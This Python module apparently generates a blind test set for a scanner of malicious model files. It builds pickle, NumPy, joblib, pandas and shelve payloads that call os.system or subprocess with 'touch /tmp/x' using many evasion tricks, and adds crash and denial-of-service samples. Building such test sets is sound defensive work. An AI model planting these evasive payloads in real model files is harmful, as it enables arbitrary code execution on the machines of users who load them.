"""The third blind set: forms of opcodes, wrappings of pickles, NumPy and joblib files."""

from __future__ import annotations

import base64
import bz2
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Iterator

from corpora.unseen3_base import (
    CODE,
    COMMANDS,
    Build,
    Call,
    G,
    Raw,
    Sample,
    as_json,
    call,
    dumps,
    gzipped,
    new,
    npy,
    opcodes,
    tarred,
    zipped,
)

LOAD = "import pickle; pickle.load(open(f, 'rb'))"
HERE = "import sys; sys.path.insert(0, '.'); "
SH = COMMANDS[0]
EVIL = call("os:system", SH)
RUN = b"cos\nsystem\n"
ARG = b"X\x0c\x00\x00\x00touch /tmp/x"


def _opcodes() -> Iterator[tuple[str, bytes]]:
    yield "inst", b"(S'touch /tmp/x'\nios\nsystem\n."
    yield "inst-pops", dumps([Call(G("os:system"), (SH,), "inst"), 1], 2)
    yield "obj", b"(" + RUN + ARG + b"o."
    yield "obj-proto4", dumps({"model": Call(G("subprocess:check_output"), (["touch", "/tmp/x"],), "obj")}, 4)
    yield "newobj-ex", dumps(Call(G("sympy.functions.elementary.complexes:Abs"), (CODE[2].join(["", ""]) and "__import__('os').system('touch /tmp/x')", {"evaluate": True}), "newobj_ex"), 4)
    yield "extension", b"\x80\x02ccopyreg\nadd_extension\n(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemK\x07tR0\x82\x07" + ARG + b"\x85R."
    yield "extension-four", b"\x80\x02ccopyreg\nadd_extension\n(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemJ\x00\x00\x01\x00tR0\x84\x00\x00\x01\x00" + ARG + b"\x85R."
    yield "python2-commands", b"\x80\x02ccommands\ngetoutput\n" + ARG + b"\x85R."
    yield "python2-builtin", b"c__builtin__\neval\n(S'__import__(\"os\").system(\"touch /tmp/x\")'\ntR."
    yield "python2-reduce", b"\x80\x02c__builtin__\nmap\ncos\nsystem\n](X\x0c\x00\x00\x00touch /tmp/xe\x86R0c__builtin__\nlist\nc__builtin__\nmap\ncos\nsystem\n](X\x0c\x00\x00\x00touch /tmp/xe\x86R\x85R."
    yield "stack-global-memo", b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93\x8c\x0ctouch /tmp/x\x85R."
    yield "stack-global-computed", dumps(Raw(opcodes(call(call("operator:methodcaller", "join", ["o", "s"]), ""), 4) + opcodes(call("builtins:str", "system"), 4) + b"\x93" + ARG + b"\x85R"), 4)
    yield "memo-overwritten", b"\x80\x02cmath\nfabs\nq\x00cos\nsystem\nq\x000h\x00" + ARG + b"\x85R."
    yield "memo-huge-index", b"\x80\x02cos\nsystem\nr\xff\xff\x0f\x000j\xff\xff\x0f\x00" + ARG + b"\x85R."
    yield "memo-text-index", b"cos\nsystem\np1000000\n0g1000000\n(S'touch /tmp/x'\ntR."
    yield "popped", dumps(Raw(opcodes(EVIL, 2) + b"0" + opcodes({"weights": [1.0, 2.0]}, 2)), 2)
    yield "pop-mark", dumps(Raw(b"(" + opcodes(EVIL, 2) + b"1" + opcodes([0.5], 2)), 2)
    yield "dup", b"\x80\x02cos\nsystem\n2" + ARG + b"\x85R0."
    yield "no-stop", b"\x80\x04" + opcodes(EVIL, 4)
    yield "garbage-after", b"\x80\x02" + opcodes(EVIL, 2) + b"\xee\xff\x00"
    yield "bad-int-after", opcodes(EVIL, 0) + b"Inot a number\n."
    yield "bad-utf8-after", b"\x80\x02" + opcodes(EVIL, 2) + b"X\x02\x00\x00\x00\xff\xfe."
    yield "frame-lies", b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00NNN00" + opcodes(EVIL, 4) + b"."
    yield "proto-in-the-middle", b"\x80\x05\x80\x00\x80\x02" + opcodes(EVIL, 2) + b"\x80\x04."
    yield "old-strings", b"\x80\x01cos\nsystem\n(U\x0ctouch /tmp/xtR."
    yield "escaped-string", b"cos\nsystem\n(S'\\x74ouch /tmp\\057x'\ntR."
    yield "escaped-unicode", b"cos\nsystem\n(V\\u0074ouch /tmp/x\ntR."
    yield "bytes-name", b"\x80\x04\x8c\x05posix\x8c\x06system\x93C\x0ctouch /tmp/x\x85R."
    yield "bytearray", b"\x80\x05\x8c\x05posix\x8c\x06system\x93cbuiltins\nbytes\n\x96\x0c\x00\x00\x00\x00\x00\x00\x00touch /tmp/x\x85R\x85R."
    yield "in-a-key", dumps({call("os:system", SH): "layer1"}, 4)
    yield "in-a-set", b"\x80\x04\x8f(" + opcodes(EVIL, 4) + b"\x90."
    yield "in-a-frozenset", b"\x80\x04(" + opcodes(EVIL, 4) + b"\x91."
    yield "as-an-argument", dumps(call("collections:OrderedDict", [["conv1.weight", EVIL]]), 2)
    yield "as-a-state", dumps(Build(new("argparse:Namespace"), {"lr": 0.1, "seed": EVIL}), 4)
    yield "persistent-none", b"\x80\x02" + opcodes(EVIL, 2) + b"Q."
    yield "after-100k-of-data", dumps(["a" * 60000, [1.5] * 9000, EVIL], 4)
    yield "deep", dumps(Raw(b"(" * 3000 + opcodes(EVIL, 2) + b"t" * 3000), 2)
    yield "long-arguments", dumps(call("os:system", "true;" * 20000 + SH), 4)
    yield "long-line", dumps(call("os:system", "#" * 70000 + "\n" + SH), 0)
    yield "setstate-on-class", dumps(Raw(opcodes(Build(G("argparse:Namespace"), (None, {"__setstate__": G("os:system")})), 4) + b"0" + opcodes(Build(new("argparse:Namespace"), SH), 4)), 4)
    yield "setstate-on-dataset", dumps([Build(G("torch.utils.data.dataset:TensorDataset"), (None, {"__setstate__": G("os:system")})), Build(new("torch.utils.data.dataset:TensorDataset"), SH)], 4)
    yield "append-method", dumps(Raw(opcodes(Build(new("argparse:Namespace"), {"append": G("os:system")}), 4) + ARG + b"a"), 4)
    yield "extend-method", dumps(Raw(opcodes(Build(new("optparse:Values"), {"extend": G("subprocess:call")}), 4) + b"(" + b"X\x05\x00\x00\x00touchX\x06\x00\x00\x00/tmp/x" + b"e"), 4)
    yield "append-call", dumps(Raw(opcodes(call(G("weakref:WeakMethod") if False else G("types:SimpleNamespace")), 4) + b"(dX\x06\x00\x00\x00appendcos\nsystem\nsb" + ARG + b"a"), 4)
    yield "slot-hash", dumps({Build(new("argparse:Namespace"), {}): 1, "x": EVIL}, 4) if False else dumps([EVIL, EVIL], 0)


def _numpy() -> Iterator[tuple[str, dict[str, bytes], str]]:
    head = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    allow = "import numpy as np; "
    yield "object", {"features.npy": npy(head, dumps(EVIL, 2))}, allow + "np.load(f, allow_pickle=True)"
    yield "object-v2-header", {"y.npy": npy(head, dumps(EVIL, 4), 2)}, allow + "np.load(f, allow_pickle=True)"
    yield "object-v3-header", {"names.npy": npy("{'descr': [('é', 'O')], 'fortran_order': True, 'shape': (), }", dumps(EVIL, 4), 3)}, allow + "np.load(f, allow_pickle=True)"
    nested = "{'descr': [('a', '<f4'), ('b', [('c', '|O', (2,))])], 'fortran_order': False, 'shape': (1,), }"
    yield "object-nested-field", {"table.npy": npy(nested, dumps(EVIL, 2))}, allow + "np.load(f, allow_pickle=True)"
    yield "wrong-name", {"weights.h5": npy(head, dumps(EVIL, 2))}, allow + "np.load(f, allow_pickle=True)"
    yield "bare-pickle-as-npy", {"embeddings.npy": dumps(EVIL, 2)}, allow + "np.load(f, allow_pickle=True)"
    good = npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", b"\0" * 8)
    yield "npz-last", {"data.npz": zipped({"a.npy": good, "b.npy": npy(head, dumps(EVIL, 2))})}, allow + "[np.load(f, allow_pickle=True)[k] for k in 'ab']"
    deflated = zipped({"meta.npy": npy(head, dumps(EVIL, 4))}, zipfile.ZIP_DEFLATED)
    yield "npz-deflated", {"run.npz": deflated}, allow + "np.load(f, allow_pickle=True)['meta']"
    yield "npz-lzma", {"run.npz": zipped({"m.npy": npy(head, dumps(EVIL, 4))}, zipfile.ZIP_LZMA)}, allow + "np.load(f, allow_pickle=True)['m']"
    yield "npz-prefixed", {"run.npz": b"PK\x03\x04" + b"\0" * 60 + deflated}, allow + "np.load(f, allow_pickle=True)['meta']"
    yield "two-in-a-file", {"stack.npy": good + npy(head, dumps(EVIL, 2))}, allow + "o = open(f, 'rb'); np.load(o); np.load(o, allow_pickle=True)"
    yield "lib-format", {"x.npy": npy(head, dumps(EVIL, 0))}, "from numpy.lib import format; format.read_array(open(f, 'rb'), allow_pickle=True)"
    yield "recarray", {"rec.npy": npy("{'descr': [('k', 'O'), ('v', '<i8')], 'fortran_order': False, 'shape': (3,), }", dumps([EVIL], 5))}, allow + "np.load(f, allow_pickle=True)"


def _joblib() -> Iterator[tuple[str, dict[str, bytes], str]]:
    load = "import joblib; joblib.load(f)"
    raw = dumps({"model": EVIL}, 2)
    yield "plain", {"clf.joblib": raw}, load
    yield "zlib", {"clf.joblib.z": zlib.compress(raw)}, load
    yield "gzip", {"clf.joblib": gzipped(raw)}, load
    yield "bz2", {"clf.pkl": bz2.compress(raw)}, load
    yield "xz", {"clf.jbl": lzma.compress(raw)}, load
    yield "lzma-alone", {"clf.lzma": lzma.compress(raw, lzma.FORMAT_ALONE)}, load
    yield "zfile", {"clf.pkl": b"ZF" + f"{hex(len(raw)):<19}".encode() + zlib.compress(raw)}, load
    wrapper = Build(new("joblib.numpy_pickle:NumpyArrayWrapper"), {"subclass": G("numpy:ndarray"), "shape": (1,), "order": "C", "dtype": Build(call("numpy:dtype", "O8", False, True), (3, "|", None, None, None, -1, -1, 63)), "allow_mmap": False})
    yield "inline-object-array", {"pipe.joblib": b"\x80\x04" + opcodes(wrapper, 4) + dumps(EVIL, 4) + b"."}, load
    yield "inline-in-dict", {"pipe.joblib": b"\x80\x03}X\x04\x00\x00\x00coef" + opcodes(wrapper, 3) + dumps([EVIL], 2) + b"s."}, load
    old = Build(new("joblib.numpy_pickle_compat:NDArrayWrapper"), {"filename": "m.pkl_01.npy", "subclass": G("numpy:ndarray"), "allow_mmap": False})
    evil = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", dumps(EVIL, 2))
    yield "array-beside", {"m.pkl": dumps(old, 2), "m.pkl_01.npy": evil}, load
    yield "mmap", {"big.joblib": raw}, "import joblib; joblib.load(f, mmap_mode='r')"
    yield "cached", {"joblib/f/out/output.pkl": gzipped(raw), "joblib/f/out/metadata.json": b"{}"}, "import joblib; joblib.load('joblib/f/out/output.pkl')"


def _wrapped() -> Iterator[tuple[str, dict[str, bytes], str]]:
    raw = dumps({"w": EVIL}, 4)
    pandas = "import pandas; pandas.read_pickle(f)"
    yield "pandas-gz", {"frame.pkl.gz": gzipped(raw)}, pandas
    yield "pandas-bz2", {"frame.pkl.bz2": bz2.compress(raw)}, pandas
    yield "pandas-xz", {"frame.pkl.xz": lzma.compress(raw)}, pandas
    yield "pandas-zip", {"frame.pkl.zip": zipped({"frame.pkl": raw}, zipfile.ZIP_DEFLATED)}, pandas
    yield "pandas-tar", {"frame.pkl.tar.gz": tarred({"frame.pkl": raw}, "w:gz")}, pandas
    yield "pandas-zst", {"frame.pkl.zst": _zstd(raw)}, pandas
    index = b"'best', (0, %d)\n" % len(raw)
    yield "shelve", {"store.dat": raw, "store.dir": index, "store.bak": index}, "import shelve; shelve.open('store')['best']"
    text = as_json({"model": base64.b64encode(raw).decode()})
    yield "base64-in-json", {"model.json": text}, "import json, base64, pickle; pickle.loads(base64.b64decode(json.load(open(f))['model']))"
    yield "bytes-in-pickle", {"m.pkl": dumps({"inner": raw}, 4)}, "import pickle; pickle.loads(pickle.load(open(f, 'rb'))['inner'])"
    yield "gzip-in-pickle", {"m.pkl": dumps({"inner": gzipped(raw)}, 4)}, "import pickle, gzip; pickle.loads(gzip.decompress(pickle.load(open(f, 'rb'))['inner']))"
    yield "second-stream", {"m.pkl": dumps([1, 2]) + dumps(EVIL, 2)}, "import pickle; o = open(f, 'rb'); pickle.load(o); pickle.load(o)"
    yield "path-append", {"m.pkl": dumps(Raw(opcodes(G("sys:path"), 4) + b"X\x01\x00\x00\x00.a0cnetlib\nNet\n)\x81"), 4), "netlib.py": CODE[0].encode() + b"\nclass Net: pass\n"}, LOAD
    yield "module-beside", {"model.pkl": dumps(new("modeling:Net"), 4), "modeling.py": CODE[1].encode() + b"\nclass Net: pass\n"}, HERE + LOAD
    yield "package-beside", {"model.pkl": dumps(G("sklearn_ext.utils:X"), 4), "sklearn_ext/__init__.py": b"", "sklearn_ext/utils.py": CODE[2].encode() + b"\nX = 1\n"}, HERE + LOAD
    yield "sys-modules", {"m.pkl": dumps(Raw(opcodes(G("sys:modules"), 4) + opcodes("json", 4) + opcodes(call("importlib:import_module", "os"), 4) + b"s0cjson\nsystem\n" + ARG + b"\x85R"), 4)}, LOAD
    yield "builtins-patched", {"m.pkl": dumps(Raw(opcodes(call("builtins:vars", call("importlib:import_module", "builtins")), 2) + opcodes("len", 2) + opcodes(G("os:system"), 2) + b"s0cbuiltins\nlen\n" + ARG + b"\x85R"), 2)}, LOAD
    yield "fixed-after-load", {"m.pkl": dumps(Build(new("argparse:Namespace"), {"predict": call("functools:partial", G("os:system"), SH)}), 4)}, "import pickle; pickle.load(open(f, 'rb')).predict()"
    yield "default-factory", {"m.pkl": dumps(call("collections:defaultdict", call("functools:partial", G("os:system"), SH)), 4)}, "import pickle; pickle.load(open(f, 'rb'))['missing']"
    yield "cached-property", {"m.pkl": dumps(call("functools:partial", G("builtins:exec"), CODE[0]), 4)}, "import pickle; pickle.load(open(f, 'rb'))()"
    yield "function-transformer", {"pipe.pkl": dumps(Build(new("sklearn.preprocessing._function_transformer:FunctionTransformer"), {"func": G("os:system"), "validate": False, "inverse_func": None, "accept_sparse": False, "check_inverse": False, "feature_names_out": None, "kw_args": None, "inv_kw_args": None, "n_features_in_": 1}), 4)}, "import pickle; pickle.load(open(f, 'rb')).transform('touch /tmp/x')"


def _zstd(raw: bytes) -> bytes:
    """A frame of one raw block; its checksum left out."""
    return b"\x28\xb5\x2f\xfd\x20" + bytes([len(raw)]) + struct.pack("<I", len(raw) << 3 | 1)[:3] + raw


def samples() -> Iterator[Sample]:
    ends = ("pkl", "pickle", "bin", "model", "p", "dat")
    for index, (name, data) in enumerate(_opcodes()):
        yield Sample(f"form/{name}", {f"m{index}.{ends[index % 6]}": data}, LOAD, "code")
    for family, rows in (("numpy", _numpy()), ("joblib", _joblib()), ("wrapped", _wrapped())):
        for name, files, loader in rows:
            yield Sample(f"{family}/{name}", files, loader, "code")
    for name, head, body in (
        ("shape-bomb", "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }", b""),
        ("object-count", "{'descr': '|O', 'fortran_order': False, 'shape': (999999999999,), }", dumps([1])),
    ):
        yield Sample(f"numpy/{name}", {"x.npy": npy(head, body)}, "import numpy as np; np.load(f, allow_pickle=True)", "crash")
    text = b"\x80\x04]\x94" + b"".join(b"](h%ch%ch%ch%ch%ch%ch%ch%ce\x94" % ((i,) * 8) for i in range(24)) + b"."
    yield Sample("form/repr-never-ends", {"m.pkl": text}, "import pickle; repr(pickle.load(open(f, 'rb')))", "crash")
    power = call("operator:pow", call("operator:pow", 10, 9), call("operator:pow", 10, 9))
    yield Sample("form/power", {"m.pkl": dumps(power, 4)}, LOAD, "crash")
    yield Sample("form/bytearray-size", {"m.pkl": dumps(call("numpy:ones", (10**9,)), 4)}, LOAD, "crash")
    yield Sample("form/regex", {"m.pkl": dumps(call("re:match", "(a+)+$", "a" * 40 + "b"), 4)}, LOAD, "crash")
    yield Sample("form/abort", {"m.pkl": dumps(call("os:abort"), 4)}, LOAD, "crash")
    yield Sample("form/null-pointer", {"m.pkl": dumps(call("ctypes:string_at", 0), 4)}, LOAD, "crash")
    yield Sample("form/code-replace", {"m.pkl": dumps(call(call("types:FunctionType", call("types:CodeType", 0, 0, 0, 0, 1, 0, b"\x6e\xff" * 40, (), (), (), "a", "f", "f", 1, b"", b"", (), ()), {})), 4)}, LOAD, "crash")
    tree = io.BytesIO()
    tree.write(dumps(Build(call("sklearn.tree._tree:Tree", 1, call("numpy:array", [2]), 1), {"max_depth": 1, "node_count": 1, "nodes": call("numpy:zeros", 1), "values": call("numpy:zeros", (1, 1, 2))}), 4))
    yield Sample("form/tree-state", {"t.pkl": tree.getvalue()}, LOAD, "crash")
